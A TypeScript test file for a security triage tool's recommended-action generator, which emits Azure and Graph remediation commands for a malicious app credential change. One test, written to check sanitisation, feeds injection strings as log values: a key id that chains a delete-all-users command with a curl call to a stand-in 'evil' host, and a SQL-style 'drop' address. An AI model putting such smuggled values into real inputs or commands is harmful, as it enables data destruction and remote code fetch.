/**
 * Recommended actions: the right ones for a family and verdict, with the exact object ids in
 * their commands — and a log value that is not a GUID (attacker-controlled) never written into a
 * command: a placeholder instead. Addresses go into a hunting query only when well-formed.
 */
import assert from "node:assert/strict";
import { test } from "node:test";
import { recommendedActions } from "../../src/triage/actions.js";
import type { Activity } from "../../src/triage/model.js";

const APP = "35ee03b1-061d-4cde-a51e-1d3a33d8d260";
const APPID = "e0e11d6b-0464-45e6-8f5b-002a501accc7";
const KEY = "aabe6644-8059-4247-a8f4-8953f70c9bce";
const activity = (keyId: string, targetId = APP): Activity => ({
  timeMs: 0,
  operationName: "Update application – Certificates and secrets management ",
  initiator: "zoe@contoso.com",
  initiatorId: "28b19185-84ab-412a-9dce-0582d209a5f5",
  ipAddress: "51.38.108.70",
  target: "SharepointAPI-Test",
  targetId,
  category: "ApplicationManagement",
  result: "success",
  changes: [{ what: "credential added", details: { keyId, type: "Password" } }],
  inAlert: true,
});
const subjects = (keyId = KEY, ips = ["51.38.108.70"]) => ({
  initiator: { name: "zoe@contoso.com", id: "28b19185-84ab-412a-9dce-0582d209a5f5", kind: "user" },
  targets: [{ name: "SharepointAPI-Test", id: APP, appId: APPID, kind: "application" }],
  ips,
  activities: [activity(keyId)],
});

test("benign: one action, no commands", () => {
  const a = recommendedActions("credential", "benign", subjects());
  assert.equal(a.length, 1);
  assert.match(a[0]!.title, /No action/);
  assert.deepEqual(a[0]!.commands, []);
});

test("a malicious credential change: remove the key by its id, disable the SP, review owners, revoke the initiator, hunt", () => {
  const a = recommendedActions("credential", "malicious", subjects());
  const text = a.flatMap((x) => x.commands.map((c) => c.text)).join("\n");
  assert.ok(text.includes(`Remove-MgApplicationPassword -ApplicationId ${APP} -KeyId ${KEY}`));
  assert.ok(text.includes(`az ad app credential delete --id ${APPID} --key-id ${KEY}`));
  assert.ok(text.includes(`az ad sp update --id ${APPID} --set accountEnabled=false`));
  assert.ok(text.includes(`Get-MgApplicationOwner -ApplicationId ${APP}`));
  assert.ok(text.includes("Revoke-MgUserSignInSession -UserId 28b19185-84ab-412a-9dce-0582d209a5f5"));
  assert.ok(text.includes('let Addresses = dynamic(["51.38.108.70"]);'));
  assert.match(a[0]!.title, /Remove the credential/);
});

test("a key id from the logs that is not a GUID becomes a placeholder, never part of a command", () => {
  const evil = `x; Remove-MgUser -UserId *; "$(curl evil)"`;
  const a = recommendedActions("credential", "malicious", subjects(evil, ["51.38.108.70", `1.2.3.4"); drop`]));
  const text = a.flatMap((x) => [x.title, ...x.commands.map((c) => c.text)]).join("\n");
  assert.ok(!text.includes("Remove-MgUser -UserId *"));
  assert.ok(!text.includes("curl"));
  assert.ok(!text.includes("drop"));
  assert.ok(text.includes("-KeyId <key id>"));
});
